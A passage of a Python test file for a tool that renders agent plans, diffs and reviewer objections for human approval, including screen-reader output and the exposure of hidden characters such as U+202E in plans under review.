    assert "[x] read" in text
    assert "- writes: src/**" in text
    assert "{" not in text


def test_the_tasks_of_a_plan_stand_before_its_reasoning_and_no_row_between_them_is_blank():
    tasks = [{**PLANNED["tasks"][0], "description": "read it\n\nall of it"}, PLANNED["tasks"][1]]

    assert plain(render_substance(a_plan(tasks=tasks), 58)) == [
        "a parser",
        " 1 [x] read",
        "   read it",
        "",
        "   all of it",
        "   - writes: src/**",
        " 2 [x] tell",
        "   tell of it",
        "   - after: read",
        "Reasoning",
        "   it is asked for",
    ]
    assert "Reasoning" not in plain(render_substance(a_plan(reasoning=""), 58))


def test_what_a_task_or_the_reasoning_is_objected_to_for_is_marked():
    for quote in ("src/**", "tell of it", "it is asked for", "a parser"):
        rows = render_substance(a_plan(), 58, (quote,))
        assert [part.text for row in rows for part in row if part.is_objected] == [quote]


def test_unchanged_empty_lines_around_a_hunk_take_no_rows():
    diff = "--- a/x\n+++ b/x\n@@ -1,6 +1,6 @@\n \n \n-a\n+b\n \n end\n \n@@ -20,3 +20,4 @@\n \n one\n+\n \n"
    packet = a_packet("edit_file", {"path": "x"}, Seal(cwd="/w", diff=diff))

    assert [row.strip() for row in plain(render_substance(packet, 58))] == [
        *("3 - a", "3 + b", "4", "5   end", "⋯", "21   one", "22 +"),
    ]


def test_a_plan_is_edited_as_markdown_and_a_task_whose_box_is_empty_is_left_out():
    text, part = render_editable(a_plan())
    edited = apply_edit(a_plan(), text.replace("[x] tell", "[ ] tell"), part)

    assert [task["id"] for task in edited["tasks"]] == ["read"]
    with pytest.raises(NotEditable, match="line 21: the task tell depends on read, whose box is not checked"):
        apply_edit(a_plan(), text.replace("[x] read", "[ ] read"), part)


def test_a_plan_with_hidden_characters_is_edited_as_json_that_shows_them():
    packet = a_plan(objective="a \u202eparser")
    text, part = render_editable(packet)

    assert "\u202e" not in text
    assert apply_edit(packet, text, part) == packet.call.arguments


def test_objections_to_earlier_plans_are_listed_with_what_was_changed_after_each():
    objection = PlanObjection(claim="no \u202etest", severity=Severity.HIGH, task="read")
    against = replace(a_ballot("p/1", Vote.REJECT), objections=(objection,))
    earlier = tuple(
        EarlierPlan(number=number, text=render_plan_text(find_plan(a_plan(objective=said))), ballots=(against,))
        for number, said in enumerate(("first", "second"), start=1)
    )
    request = replace(a_request(a_plan(objective="third")), earlier_plans=earlier)
    rows = plain(render_all_votes(request, a_review_context(voted(against, reviewers=("p/1",))), 60))

    assert [row for row in rows if row.startswith("round")] == ["round 2", "round 1"]
    assert rows.count("  objects  high, task read: no ⟨U+202E⟩test") == 3
    assert [row for row in rows if row[:2] in ("+ ", "- ")] == ["- second", "+ third", "- first", "+ second"]
    told = plain(fold(collect_facts(request, NOTHING).dangers, 90))
    assert told == [
        "reviewers judged 2 earlier plans; v shows objections and changes",
        "your yes lets what its tasks declare run unasked",
    ]


def test_for_a_screen_reader_a_diff_is_words_at_any_width():
    diff = (
        "--- a/x\n+++ b/x\n@@ -9,2 +9,2 @@\n same\n-gone\n+new\n"
        "@@ -20,1 +20,2 @@\n end\n+\n\\ No newline at end of file\n"
    )
    packet = an_edit(diff, path="/w/x")
    rows = [
        "line 9 unchanged: same",
        "line 10 removed: gone",
        "line 10 added: new",
        "lines are left out here",
        "line 20 unchanged: end",
        "line 21 added: ",
        "No newline at end of file",
    ]

    assert plain(render_substance(packet, 60, spoken=True)) == rows
    assert plain(render_substance(packet, 200, spoken=True)) == rows
    assert "".join(build_title(packet, "/w", spoken=True)) == "Edit x  2 lines added, 1 removed"
    assert [row.strip() for row in plain(list_calls(a_request(packet), 200, "/w", spoken=True))][-7:] == [
        row.strip() for row in rows
    ]
